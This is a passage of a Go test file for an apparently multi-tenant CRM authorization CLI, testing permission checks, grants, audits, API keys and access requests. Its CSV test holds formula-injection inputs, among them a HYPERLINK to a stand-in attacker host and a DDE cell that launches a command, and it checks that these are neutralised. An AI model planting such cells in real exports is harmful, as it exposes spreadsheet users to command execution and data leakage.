package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"testing"
	"time"

	"go.uber.org/goleak"
	"go.uber.org/zap/zaptest"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	healthpb "google.golang.org/grpc/health/grpc_health_v1"

	"github.com/crmauthz/crmauthz/internal/app"
	"github.com/crmauthz/crmauthz/internal/auth"
	"github.com/crmauthz/crmauthz/internal/backup"
	"github.com/crmauthz/crmauthz/internal/bundle"
	"github.com/crmauthz/crmauthz/internal/config"
	"github.com/crmauthz/crmauthz/internal/store"
	pb "github.com/crmauthz/crmauthz/proto/crmauthz/v1"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// serve starts authzd from memory, seeded with the demo tenant, on a
// loopback port, waits until health reports SERVING and returns its
// address. The decision log is synchronous, so that an entry is listed as
// soon as its decision is answered. The server stops at the end of the test.
func serve(t *testing.T) string {
	t.Helper()
	cfg := config.Default()
	cfg.DecisionLog = "sync"
	return serveWith(t, cfg, nil)
}

// serveWith is serve with cfg, running setup on the store before the
// server starts.
func serveWith(t *testing.T, cfg config.Config, setup func(store.Store)) string {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	a, err := app.New(ctx, cfg, zaptest.NewLogger(t))
	if err != nil {
		t.Fatal(err)
	}
	if setup != nil {
		setup(a.Store())
	}
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- a.Run(ctx, lis) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("authzd: %v", err)
		}
	})
	addr := lis.Addr().String()
	conn, err := grpc.NewClient(addr, grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = conn.Close() }()
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
		resp, err := healthpb.NewHealthClient(conn).Check(ctx, &healthpb.HealthCheckRequest{})
		if err == nil && resp.GetStatus() == healthpb.HealthCheckResponse_SERVING {
			return addr
		}
	}
	t.Fatal("authzd never reported SERVING")
	return ""
}

// result is what one authzctl command line printed and its exit status.
type result struct {
	stdout, stderr string
	code           int
}

// authzctl runs one command line against addr in the demo tenant, as
// oscar, the way main does, and returns its output and exit status.
func authzctl(t *testing.T, addr string, args ...string) result {
	t.Helper()
	return authzctlIn(t, "", addr, args...)
}

// authzctlIn is authzctl with stdin.
func authzctlIn(t *testing.T, stdin, addr string, args ...string) result {
	t.Helper()
	var stdout, stderr bytes.Buffer
	full := append([]string{"--addr", addr, "--tenant", "demo", "--actor", "oscar"}, args...)
	code := exitCode(run(context.Background(), full, strings.NewReader(stdin), &stdout, &stderr))
	return result{stdout: stdout.String(), stderr: stderr.String(), code: code}
}

// expect checks a result: the exit status and that stdout and stderr
// contain the given texts.
func (r result) expect(t *testing.T, code int, stdout []string, stderr []string) {
	t.Helper()
	if r.code != code {
		t.Errorf("exit status %d, want %d\nstdout:\n%s\nstderr:\n%s", r.code, code, r.stdout, r.stderr)
	}
	for _, s := range stdout {
		if !strings.Contains(r.stdout, s) {
			t.Errorf("stdout lacks %q:\n%s", s, r.stdout)
		}
	}
	for _, s := range stderr {
		if !strings.Contains(r.stderr, s) {
			t.Errorf("stderr lacks %q:\n%s", s, r.stderr)
		}
	}
}

// TestCommands runs read-only command lines against the demo tenant and
// checks their output and exit status.
func TestCommands(t *testing.T) {
	addr := serve(t)
	tests := []struct {
		name   string
		args   []string
		code   int
		stdout []string
		stderr []string
	}{
		{"module allow", []string{"check", "bob", "account", "read"}, exitOK,
			[]string{"ALLOW bob account read (revision 1, decision "}, nil},
		{"module deny", []string{"check", "bob", "account", "delete"}, exitDeny,
			[]string{"DENY bob account delete (revision 1, decision "}, nil},
		{"check explains on request", []string{"check", "bob", "account", "read", "--explain"}, exitOK,
			[]string{"ALLOW bob account read", "allowed_by_role: ", "rule: p, r:sales_rep, demo, m:account, read, allow"}, nil},
		{"explain deny says what is missing", []string{"explain", "bob", "account", "delete"}, exitDeny,
			[]string{"DENY bob account delete", "not_granted: none of the active roles of user bob (sales_rep) grants module account delete"}, nil},
		{"function denied by a narrowing role", []string{"explain", "frank", "--function", "data.export"}, exitDeny,
			[]string{"DENY frank function data.export", "denied_by_role: ", "restricted_export"}, nil},
		{"field write", []string{"check", "oscar", "--field", "account.credit_limit", "--write"}, exitOK,
			[]string{"ALLOW oscar field account.credit_limit write"}, nil},
		{"field read without a role", []string{"check", "peggy", "--field", "account.name"}, exitDeny,
			[]string{"DENY peggy field account.name read"}, nil},
		{"global flags after the command", []string{"check", "bob", "account", "read", "--tenant", "demo", "--timeout", "5s"}, exitOK,
			[]string{"ALLOW"}, nil},
		{"fields", []string{"fields", "bob", "account"}, exitOK,
			[]string{"FIELD", "STATE", "annual_revenue", "hidden", "read_write", "revision 1"}, nil},
		{"perms", []string{"perms", "bob"}, exitOK,
			[]string{"roles: sales_rep", "MODULE", "account", "revision 1"}, nil},
		{"perms of a user without roles", []string{"perms", "peggy"}, exitOK,
			[]string{"roles: none", "functions: none"}, nil},
		{"filter", []string{"filter", "oscar", "account", "read"}, exitOK,
			[]string{"kind: all", "sql:  TRUE", "revision 1"}, nil},
		{"roles", []string{"roles"}, exitOK,
			[]string{"ROLE", "restricted_export", "key_account_manager", "sales_rep"}, nil},
		{"roles get", []string{"roles", "get", "restricted_export"}, exitOK,
			[]string{"role:        restricted_export", "deny", "denied functions: data.export"}, nil},
		{"roles templates", []string{"roles", "templates"}, exitOK,
			[]string{"TEMPLATE", "finance_readonly", "sales_manager"}, nil},
		{"grants of a user", []string{"grants", "--user", "frank"}, exitOK,
			[]string{"frank", "restricted_export", "sales_manager"}, nil},
		{"expired grants only with --all", []string{"grants", "--role", "sales_rep", "--all"}, exitOK,
			[]string{"ivan", "2025-06-30T00:00:00Z", "false"}, nil},
		{"unknown module", []string{"check", "bob", "spaceship", "read"}, exitError,
			nil, []string{"INVALID_ARGUMENT", "reason: UNKNOWN_MODULE", "field: permission.module.module"}},
		{"unknown role", []string{"roles", "get", "astronaut"}, exitError,
			nil, []string{"NOT_FOUND"}},
		{"help", []string{"check", "-h"}, exitOK,
			[]string{"Usage: authzctl check <user> <module> <verb>", "Exit status: 0 ALLOW, 3 DENY", "-function id"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			authzctl(t, addr, tt.args...).expect(t, tt.code, tt.stdout, tt.stderr)
		})
	}
}

// TestUsageErrors checks that command lines authzctl cannot run exit with
// status 2 and say why, without calling the server.
func TestUsageErrors(t *testing.T) {
	const addr = "127.0.0.1:1" // nothing listens: a usage error never dials.
	tests := []struct {
		name   string
		args   []string
		stderr string
	}{
		{"no command", nil, "no command given"},
		{"unknown command", []string{"launch"}, `unknown command "launch"`},
		{"unknown flag", []string{"check", "bob", "account", "read", "--colour"}, "flag provided but not defined: -colour"},
		{"missing arguments", []string{"check"}, "check: missing arguments"},
		{"module without verb", []string{"check", "bob", "account"}, "<module> <verb>"},
		{"two permissions", []string{"check", "bob", "account", "read", "--function", "data.export"}, "name one permission"},
		{"write without field", []string{"check", "bob", "--function", "data.export", "--write"}, "--write needs --field"},
		{"field without module", []string{"check", "bob", "--field", "credit_limit"}, "--field must be module.field"},
		{"record without owner", []string{"check", "bob", "account", "read", "--record", "acc-1"}, "--record needs --owner"},
		{"bad output", []string{"perms", "bob", "--output", "yaml"}, "--output must be text or json"},
		{"write without reason", []string{"grant", "peggy", "sales_rep"}, "--reason is required for writes"},
		{"bad until", []string{"grant", "peggy", "sales_rep", "--reason", "r", "--until", "soon"}, `--until "soon"`},
		{"grants needs one filter", []string{"grants"}, "exactly one of --user and --role"},
		{"unknown roles subcommand", []string{"roles", "rename"}, `unknown subcommand "rename"`},
		{"create without template", []string{"roles", "create", "x", "--reason", "r"}, "--template or --permissions"},
		{"extra argument", []string{"perms", "bob", "alice"}, `unexpected argument "alice"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := authzctl(t, addr, tt.args...)
			r.expect(t, exitUsage, nil, []string{tt.stderr, "Run 'authzctl"})
		})
	}
}

// TestGrantCheckRevoke grants peggy (no roles) a role until a time, checks
// the grant takes effect at the returned revision, revokes it and checks
// again.
func TestGrantCheckRevoke(t *testing.T) {
	addr := serve(t)
	steps := []struct {
		args   []string
		code   int
		stdout string
	}{
		{[]string{"check", "peggy", "lead", "read"}, exitDeny, "DENY peggy lead read (revision 1,"},
		{[]string{"grant", "peggy", "sales_rep", "--until", "2099-12-31T00:00:00Z", "--reason", "covers the north region"}, exitOK,
			"granted sales_rep to peggy until 2099-12-31T00:00:00Z (revision 2)"},
		{[]string{"grants", "--user", "peggy"}, exitOK, "2099-12-31T00:00:00Z"},
		{[]string{"explain", "peggy", "lead", "read"}, exitOK, "rule: p, r:sales_rep, demo, m:lead, read, allow"},
		{[]string{"grant", "peggy", "sales_rep", "--until", "72h", "--reason", "shorter cover"}, exitOK, "(revision 3)"},
		{[]string{"revoke", "peggy", "sales_rep", "--reason", "back to marketing"}, exitOK, "revoked sales_rep from peggy (revision 4)"},
		{[]string{"check", "peggy", "lead", "read"}, exitDeny, "DENY peggy lead read (revision 4,"},
		{[]string{"check", "peggy", "lead", "read", "--at-least-revision", "4"}, exitDeny, "DENY peggy lead read (revision 4,"},
		{[]string{"status"}, exitOK, "replica:         none (serving from memory"},
	}
	for _, s := range steps {
		authzctl(t, addr, s.args...).expect(t, s.code, []string{s.stdout}, nil)
	}
	// A revision no write has made yet: this replica cannot decide at it.
	authzctl(t, addr, "check", "peggy", "lead", "read", "--at-least-revision", "9").expect(t, exitError, nil,
		[]string{"UNAVAILABLE", "not yet at 9"})
}

// TestAliases lists, sets and deletes action aliases, and shows that bad
// ones are refused with the field named.
func TestAliases(t *testing.T) {
	addr := serve(t)
	steps := []struct {
		args   []string
		code   int
		stdout string
		stderr string
	}{
		{[]string{"aliases"}, exitOK, "can_update_account  account.update", ""},
		{[]string{"aliases", "set", "can_list_accounts", "account.list", "--reason", "gateway names"}, exitOK,
			"can_list_accounts now stands for account.list (revision 2)", ""},
		{[]string{"aliases", "list"}, exitOK, "can_list_accounts   account.list", ""},
		{[]string{"aliases", "set", "read", "account.delete", "--reason", "shadow"}, exitError, "", "field: alias.alias"},
		{[]string{"aliases", "set", "can_fly", "account.fly", "--reason", "typo"}, exitError, "", "reason: UNKNOWN_VERB"},
		{[]string{"aliases", "delete", "can_list_accounts", "--reason", "retired"}, exitOK, "deleted the alias can_list_accounts (revision 3)", ""},
		{[]string{"aliases", "delete", "can_list_accounts", "--reason", "again"}, exitError, "", "reason: ACTION_ALIAS_NOT_FOUND"},
		{[]string{"aliases", "set", "can_x", "account.read"}, exitUsage, "", "--reason"},
	}
	for _, s := range steps {
		var out, errs []string
		if s.stdout != "" {
			out = []string{s.stdout}
		}
		if s.stderr != "" {
			errs = []string{s.stderr}
		}
		authzctl(t, addr, s.args...).expect(t, s.code, out, errs)
	}
}

// TestRoleLifecycle creates a role from a template and from permissions
// read on standard input, and deletes them.
func TestRoleLifecycle(t *testing.T) {
	addr := serve(t)
	authzctl(t, addr, "roles", "create", "inside_sales", "--template", "sales_rep", "--reason", "inside sales team").
		expect(t, exitOK, []string{"created role inside_sales (revision 2)"}, nil)
	authzctlIn(t, `{"functions": ["report.view"]}`, addr, "roles", "create", "viewer", "--permissions", "-", "--reason", "report readers").
		expect(t, exitOK, []string{"created role viewer (revision 3)"}, nil)
	authzctl(t, addr, "roles", "get", "viewer").expect(t, exitOK, []string{"functions:   report.view"}, nil)
	authzctl(t, addr, "grant", "peggy", "viewer", "--reason", "reads reports").expect(t, exitOK, nil, nil)
	authzctl(t, addr, "roles", "delete", "viewer", "--reason", "unused").
		expect(t, exitError, nil, []string{"FAILED_PRECONDITION", "reason: ROLE_IN_USE"})
	authzctl(t, addr, "roles", "delete", "inside_sales", "--reason", "team merged").
		expect(t, exitOK, []string{"deleted role inside_sales (revision 5)"}, nil)
}

// TestJSONOutput checks that --output json prints the response in protobuf
// JSON, with false and empty fields written out, and keeps the exit status.
func TestJSONOutput(t *testing.T) {
	addr := serve(t)
	tests := []struct {
		args []string
		code int
		key  string
	}{
		{[]string{"check", "bob", "account", "delete", "--explain"}, exitDeny, "allowed"},
		{[]string{"check", "bob", "account", "read"}, exitOK, "revision"},
		{[]string{"fields", "bob", "account"}, exitOK, "fields"},
		{[]string{"perms", "bob"}, exitOK, "modules"},
		{[]string{"filter", "bob", "account", "read"}, exitOK, "sql"},
		{[]string{"roles"}, exitOK, "roles"},
		{[]string{"roles", "templates"}, exitOK, "templates"},
		{[]string{"grants", "--user", "frank"}, exitOK, "grants"},
	}
	for _, tt := range tests {
		t.Run(strings.Join(tt.args, " "), func(t *testing.T) {
			r := authzctl(t, addr, append([]string{"--output", "json"}, tt.args...)...)
			r.expect(t, tt.code, nil, nil)
			var got map[string]any
			if err := json.Unmarshal([]byte(r.stdout), &got); err != nil {
				t.Fatalf("not JSON: %v\n%s", err, r.stdout)
			}
			if _, ok := got[tt.key]; !ok {
				t.Errorf("no %q in %s", tt.key, r.stdout)
			}
		})
	}
	r := authzctl(t, addr, "--output", "json", "check", "bob", "account", "delete")
	var deny struct {
		Allowed  bool   `json:"allowed"`
		Revision string `json:"revision"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &deny); err != nil || deny.Allowed || deny.Revision != "1" {
		t.Errorf("deny as JSON: %+v, %v\n%s", deny, err, r.stdout)
	}
}

// TestEnvironment checks that AUTHZ_ADDR, AUTHZ_TENANT and AUTHZ_ACTOR
// stand in for the flags, and that flags win.
func TestEnvironment(t *testing.T) {
	addr := serve(t)
	t.Setenv("AUTHZ_ADDR", addr)
	t.Setenv("AUTHZ_TENANT", "demo")
	t.Setenv("AUTHZ_ACTOR", "oscar")
	var stdout, stderr bytes.Buffer
	err := run(context.Background(), []string{"grant", "peggy", "read_only", "--reason", "auditor access"}, strings.NewReader(""), &stdout, &stderr)
	if exitCode(err) != exitOK || !strings.Contains(stdout.String(), "granted read_only to peggy") {
		t.Fatalf("grant from the environment: %v\n%s%s", err, stdout.String(), stderr.String())
	}
	stdout.Reset()
	err = run(context.Background(), []string{"--tenant", "nowhere", "perms", "peggy"}, strings.NewReader(""), &stdout, &stderr)
	if exitCode(err) != exitError || !strings.Contains(stderr.String(), "NOT_FOUND") {
		t.Fatalf("--tenant does not override AUTHZ_TENANT: %v\n%s", err, stderr.String())
	}
}

// TestAudit reads back the decisions and the change made through authzctl,
// and verifies the decision log's hash chain.
func TestAudit(t *testing.T) {
	addr := serve(t)
	authzctl(t, addr, "check", "bob", "account", "read").expect(t, exitOK, nil, nil)
	deny := authzctl(t, addr, "check", "frank", "--function", "data.export", "--explain")
	deny.expect(t, exitDeny, []string{"decision "}, nil)
	_, id, _ := strings.Cut(deny.stdout, "decision ")
	id, _, _ = strings.Cut(id, ")")
	authzctl(t, addr, "grant", "peggy", "read_only", "--reason", "quarterly audit").expect(t, exitOK, nil, nil)

	tests := []struct {
		name   string
		args   []string
		code   int
		stdout []string
	}{
		{"decisions", []string{"audit", "decisions"}, exitOK,
			[]string{"ALLOW   bob", "module account read", "DENY    frank    function data.export", id}},
		{"denied decisions of a user", []string{"audit", "decisions", "--user", "frank", "--result", "denied", "--since", "1h"}, exitOK,
			[]string{"frank", id}},
		{"one decision", []string{"audit", "decision", id}, exitOK,
			[]string{"DENY frank function data.export (revision 1)", "method:   check", "reasons:", "role restricted_export denies function data.export"}},
		{"explained after the fact", []string{"audit", "explain", id}, exitOK,
			[]string{"DENY frank function data.export at revision 1", "(agrees with the log)", "denied_by_role: role restricted_export denies function data.export"}},
		{"changes", []string{"audit", "changes", "--target", "grant/peggy/"}, exitOK,
			[]string{"grant.create", "grant/peggy/read_only", "oscar", "quarterly audit"}},
		{"verify decisions", []string{"audit", "verify", "decisions"}, exitOK, []string{"intact", "INTACT"}},
		{"access review", []string{"audit", "unused", "--days", "30"}, exitOK, []string{"USER", "window since"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			authzctl(t, addr, tt.args...).expect(t, tt.code, tt.stdout, nil)
		})
	}
	authzctl(t, addr, "audit", "decisions", "--method", "guess").
		expect(t, exitUsage, nil, []string{"--method must be one of batch_check, check, check_page, dropped_marker, get_field_access, plan_record_filter"})
	authzctl(t, addr, "audit", "decision", "0000000000000000-99").expect(t, exitError, nil, []string{"NOT_FOUND"})
}

// TestUnavailable checks that an unreachable server is an error (exit 1)
// naming the status code.
func TestUnavailable(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := l.Addr().String()
	_ = l.Close()
	authzctl(t, addr, "--timeout", "2s", "perms", "bob").expect(t, exitError, nil, []string{"authzctl: UNAVAILABLE"})
}

func TestParseTime(t *testing.T) {
	now := time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)
	tests := []struct {
		in    string
		ahead bool
		want  time.Time
		ok    bool
	}{
		{"2030-12-31T00:00:00Z", true, time.Date(2030, 12, 31, 0, 0, 0, 0, time.UTC), true},
		{"2030-12-31T08:00:00+08:00", true, time.Date(2030, 12, 31, 0, 0, 0, 0, time.UTC), true},
		{"2030-12-31", false, time.Date(2030, 12, 31, 0, 0, 0, 0, time.UTC), true},
		{"72h", true, now.Add(72 * time.Hour), true},
		{"24h", false, now.Add(-24 * time.Hour), true},
		{"-1h", true, time.Time{}, false},
		{"0s", true, time.Time{}, false},
		{"next week", true, time.Time{}, false},
	}
	for _, tt := range tests {
		got, err := parseTime("until", tt.in, now, tt.ahead)
		if (err == nil) != tt.ok || !got.Equal(tt.want) {
			t.Errorf("parseTime(%q, ahead %v) = %v, %v; want %v (ok %v)", tt.in, tt.ahead, got, err, tt.want, tt.ok)
		}
	}
}

// TestKeys: with authentication on, authzctl calls with AUTHZ_API_KEY or
// --api-key, manages keys with a platform key, and a revoked key stops
// working at once; a key is never sent in plaintext beyond loopback.
func TestKeys(t *testing.T) {
	cfg := config.Default()
	cfg.DecisionLog, cfg.RequireAuth = "sync", true
	var platform string
	addr := serveWith(t, cfg, func(st store.Store) {
		id, key, hash, err := auth.NewKey()
		if err != nil {
			t.Fatal(err)
		}
		platform = key
		if err := st.CreateCredential(context.Background(), store.Credential{ID: id, Name: "ops", SecretHash: hash,
			Scopes: []string{"platform"}, CreatedAt: time.Now(), CreatedBy: "test"}); err != nil {
			t.Fatal(err)
		}
	})
	authzctl(t, addr, "check", "bob", "account", "read").expect(t, exitError, nil, []string{"UNAUTHENTICATED"})

	created := authzctl(t, addr, "--api-key", platform, "keys", "create", "--name", "console", "--scopes", "check,admin", "--tenants", "demo", "--expires", "720h")
	created.expect(t, exitOK, []string{"name:      console", "scopes:    check,admin", "tenants:   demo", "active:    true"}, nil)
	lines := strings.Split(strings.TrimSpace(created.stdout), "\n")
	console := lines[len(lines)-1]
	if !strings.HasPrefix(console, "crmz_") {
		t.Fatalf("the key is not alone on the last line:\n%s", created.stdout)
	}
	id := console[len("crmz_") : len("crmz_")+16]

	t.Setenv("AUTHZ_API_KEY", console)
	authzctl(t, addr, "check", "bob", "account", "read").expect(t, exitOK, []string{"ALLOW bob account read"}, nil)
	authzctl(t, addr, "grant", "peggy", "sales_rep", "--reason", "covers the north").expect(t, exitOK, []string{"peggy"}, nil)
	authzctl(t, addr, "--actor", "bob", "grant", "bob", "admin", "--reason", "why not").
		expect(t, exitError, nil, []string{"PERMISSION_DENIED", "MISSING_PERMISSION", "admin.users.manage"})
	authzctl(t, addr, "keys", "list").expect(t, exitError, nil, []string{"PERMISSION_DENIED", "MISSING_SCOPE"})

	authzctl(t, addr, "--api-key", platform, "keys", "list").expect(t, exitOK, []string{id, "console", "check,admin"}, nil)
	// The security log writes within its flush interval.
	var events result
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		if events = authzctl(t, addr, "--api-key", platform, "audit", "security", "--kind", "call.refused"); strings.Contains(events.stdout, "bob") {
			break
		}
	}
	events.expect(t, exitOK, []string{"call.refused", "MISSING_PERMISSION", "bob", "AdminService/GrantRole"}, nil)
	authzctl(t, addr, "--api-key", platform, "keys", "revoke", id, "--reason", "console retired").
		expect(t, exitOK, []string{"active:    false", "revoked:"}, nil)
	authzctl(t, addr, "check", "bob", "account", "read").expect(t, exitError, nil, []string{"UNAUTHENTICATED", "revoked"})

	authzctl(t, "crm.example:50051", "check", "bob", "account", "read").expect(t, exitUsage, nil, []string{"without TLS"})
}

// TestTenantsAndUsers onboards a tenant with a first administrator,
// offboards one of its users and then the tenant, with authzctl.
func TestTenantsAndUsers(t *testing.T) {
	cfg := config.Default()
	cfg.DecisionLog, cfg.RequireAuth = "sync", true
	var platform string
	addr := serveWith(t, cfg, func(st store.Store) {
		id, key, hash, err := auth.NewKey()
		if err != nil {
			t.Fatal(err)
		}
		platform = key
		if err := st.CreateCredential(context.Background(), store.Credential{ID: id, Name: "ops", SecretHash: hash,
			Scopes: []string{"platform"}, CreatedAt: time.Now(), CreatedBy: "test"}); err != nil {
			t.Fatal(err)
		}
	})
	t.Setenv("AUTHZ_API_KEY", platform)
	in := func(args ...string) result {
		t.Helper()
		var stdout, stderr bytes.Buffer
		code := exitCode(run(context.Background(), append([]string{"--addr", addr}, args...), strings.NewReader(""), &stdout, &stderr))
		return result{stdout: stdout.String(), stderr: stderr.String(), code: code}
	}
	in("tenants", "create", "globex", "--name", "Globex Corp.", "--admin", "gina", "--reason", "signed up").
		expect(t, exitOK, []string{"tenant:    globex", "roles:     6", "users:     1", "grants:    1"}, nil)
	in("tenants", "list").expect(t, exitOK, []string{"demo", "globex", "Globex Corp."}, nil)
	in("--tenant", "globex", "--actor", "gina", "users", "upsert", "hank", "--name", "Hank Hill", "--reason", "hired").
		expect(t, exitOK, []string{"user:        hank", "status:      active"}, nil)
	in("--tenant", "globex", "--actor", "gina", "grant", "hank", "sales_rep", "--reason", "rep").expect(t, exitOK, nil, nil)
	in("--tenant", "globex", "check", "hank", "account", "read").expect(t, exitOK, []string{"ALLOW"}, nil)
	in("--tenant", "globex", "--actor", "gina", "users", "deactivate", "hank", "--reason", "left").
		expect(t, exitOK, []string{"hank is inactive"}, nil)
	in("--tenant", "globex", "explain", "hank", "account", "read").expect(t, exitDeny, []string{"DENY", "inactive"}, nil)
	in("--tenant", "globex", "--actor", "gina", "users", "list", "--inactive").expect(t, exitOK, []string{"hank", "inactive"}, nil)
	in("--tenant", "globex", "--actor", "gina", "grant", "nobody_here", "sales_rep", "--reason", "typo").
		expect(t, exitError, nil, []string{"NOT_FOUND", "USER_NOT_FOUND"})
	in("tenants", "delete", "globex", "--confirm", "globe", "--reason", "ended").expect(t, exitError, nil, []string{"confirm_tenant_id"})
	in("tenants", "delete", "globex", "--confirm", "globex", "--reason", "ended").expect(t, exitOK, []string{"deleted tenant globex"}, nil)
	in("--tenant", "globex", "check", "hank", "account", "read").expect(t, exitError, nil, []string{"NOT_FOUND"})
}

// TestBackupAndRestore exports the demo tenant, restores it into a new
// tenant and back after a mistake, and writes its casbin policy.
func TestBackupAndRestore(t *testing.T) {
	addr := serve(t)
	dir := t.TempDir()
	file := dir + "/demo.yaml"
	authzctl(t, addr, "export", "-f", file).expect(t, exitOK, []string{"exported tenant demo at revision 1 to " + file}, nil)
	authzctl(t, addr, "import", file, "--dry-run").expect(t, exitOK, []string{"KIND", "roles", "dry run: nothing written"}, nil)
	authzctl(t, addr, "import", file, "--reason", "restore").expect(t, exitOK, []string{"nothing to change: tenant demo stays at revision 1"}, nil)

	// A mistake, then the restore.
	authzctl(t, addr, "revoke", "bob", "sales_rep", "--reason", "oops").expect(t, exitOK, nil, nil)
	authzctl(t, addr, "check", "bob", "account", "read").expect(t, exitDeny, nil, nil)
	authzctl(t, addr, "import", file, "--dry-run").expect(t, exitOK, []string{"grants         1      0        0"}, nil)
	authzctl(t, addr, "import", file, "--reason", "undo the revocation").expect(t, exitOK, []string{"imported into tenant demo: revision 3"}, nil)
	authzctl(t, addr, "check", "bob", "account", "read").expect(t, exitOK, []string{"ALLOW"}, nil)

	json := authzctl(t, addr, "export", "--format", "json")
	json.expect(t, exitOK, []string{`"version": "crmauthz.dev/tenant/v1"`, `"tenant": "demo"`}, nil)
	authzctl(t, addr, "casbin", "--model", dir+"/model.conf", "--policy", dir+"/policy.csv").
		expect(t, exitOK, []string{"wrote " + dir + "/model.conf and " + dir + "/policy.csv"}, nil)
	csv, err := os.ReadFile(dir + "/policy.csv")
	if err != nil || !strings.Contains(string(csv), "g, u:bob, r:sales_rep, demo") {
		t.Errorf("policy.csv: %v\n%s", err, csv)
	}
}

func TestByteSize(t *testing.T) {
	for n, want := range map[int64]string{0: "0 B", 1023: "1023 B", 1536: "1.5 KiB", 2 << 30: "2.0 GiB", 3 << 20: "3.0 MiB"} {
		if got := byteSize(n); got != want {
			t.Errorf("byteSize(%d) = %q, want %q", n, got, want)
		}
	}
}

// TestCSVCells: a CSV cell a spreadsheet would read as a formula is
// written as text, with a leading single quote; every other cell as it is.
func TestCSVCells(t *testing.T) {
	tests := []struct{ cell, want string }{
		{"", ""},
		{"still sells", "still sells"},
		{"bob", "bob"},
		{"2026-11-24T09:00:00Z", "2026-11-24T09:00:00Z"},
		{"a=b", "a=b"},
		{`=HYPERLINK("https://evil.example","x")`, `'=HYPERLINK("https://evil.example","x")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
	}
	for _, tt := range tests {
		var b bytes.Buffer
		if err := writeCSV(&b, [][]string{{"user", tt.cell}}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(rows) != 1 || len(rows[0]) != 2 {
			t.Fatalf("writeCSV of %q wrote %q: %v", tt.cell, b.String(), err)
		}
		if got := rows[0][1]; got != tt.want {
			t.Errorf("writeCSV of %q: the cell reads %q, want %q", tt.cell, got, tt.want)
		}
	}
}

// TestRequests walks access requests through authzctl: bob asks for the
// requestable data_exporter role, cannot approve it himself, alice (his
// manager) approves it for less time, and the grant shows in whocan and
// expiring; a policy set from the command line shows in requests roles;
// oscar denies erin's request, which she may not deny herself; peggy
// cancels hers, which bob may not cancel for her; a closed request cannot
// be decided again, and neither grants anything.
func TestRequests(t *testing.T) {
	addr := serve(t)
	requested := func(r result) string {
		t.Helper()
		_, rest, ok := strings.Cut(r.stdout, ": req_")
		if !ok {
			t.Fatalf("no request id in %q", r.stdout)
		}
		return "req_" + strings.TrimSuffix(strings.Fields(rest)[0], ",")
	}
	authzctl(t, addr, "requests", "roles").expect(t, exitOK, []string{"data_exporter", "manager,function:admin.users.manage"}, nil)
	authzctl(t, addr, "requests", "--actor", "bob").expect(t, exitOK, []string{"no access requests"}, nil)
	r := authzctl(t, addr, "requests", "create", "data_exporter", "--for", "72h", "--actor", "bob", "--reason", "quarterly churn analysis")
	r.expect(t, exitOK, []string{"requested data_exporter for bob for 72h0m0s: req_", "(revision 2)"}, nil)
	id := "req_" + strings.Fields(strings.SplitN(r.stdout, "req_", 2)[1])[0]
	id = strings.TrimSuffix(id, ",")
	authzctl(t, addr, "requests", "approve", id, "--actor", "bob", "--reason", "me").expect(t, exitError, nil, []string{"PERMISSION_DENIED", "SELF_APPROVAL"})
	authzctl(t, addr, "requests", "list", "--view", "decide", "--actor", "alice").expect(t, exitOK, []string{id, "bob", "data_exporter", "pending"}, nil)
	authzctl(t, addr, "requests", "approve", id, "--for", "24h", "--actor", "alice", "--reason", "one day is enough").
		expect(t, exitOK, []string{"approved " + id + ": bob holds data_exporter until ", "(revision 3)"}, nil)
	authzctl(t, addr, "requests", "get", id, "--actor", "bob").expect(t, exitOK, []string{"state: approved by alice", "one day is enough", "you may decide it: false"}, nil)
	authzctl(t, addr, "check", "bob", "--function", "data.export").expect(t, exitOK, []string{"ALLOW"}, nil)
	authzctl(t, addr, "audit", "changes", "--target", "grant/bob/").
		expect(t, exitOK, []string{"request.approve", "request/" + id, "alice", "grant/bob/data_exporter"}, nil)
	authzctl(t, addr, "whocan", "--function", "data.export").expect(t, exitOK, []string{"alice", "bob", "role data_exporter grants function data.export", "oscar"}, nil)
	authzctl(t, addr, "expiring", "--within", "48h").expect(t, exitOK, []string{"grant", "bob", "role data_exporter"}, nil)
	authzctl(t, addr, "expiring", "--within", "1h").expect(t, exitOK, []string{"nothing ends within 1h0m0s"}, nil)
	authzctl(t, addr, "requests", "policy", "read_only", "--approver", "role:sales_manager", "--max-days", "10", "--reason", "offer it").
		expect(t, exitOK, []string{"role read_only is requestable for up to 10 days, approved by role:sales_manager (revision 4)"}, nil)
	authzctl(t, addr, "requests", "policy", "read_only", "--approver", "boss", "--max-days", "10", "--reason", "r").expect(t, exitUsage, nil, []string{"manager, function:<id> or role:<id>"})
	authzctl(t, addr, "requests", "create", "read_only", "--actor", "peggy", "--reason", "r").expect(t, exitUsage, nil, []string{"--for is required"})

	erin := requested(authzctl(t, addr, "requests", "create", "data_exporter", "--for", "48h", "--actor", "erin", "--reason", "board pack"))
	authzctl(t, addr, "requests", "deny", erin, "--actor", "erin", "--reason", "mine").expect(t, exitError, nil, []string{"PERMISSION_DENIED", "SELF_APPROVAL"})
	authzctl(t, addr, "requests", "deny", erin, "--actor", "oscar", "--reason", "use the shared report").
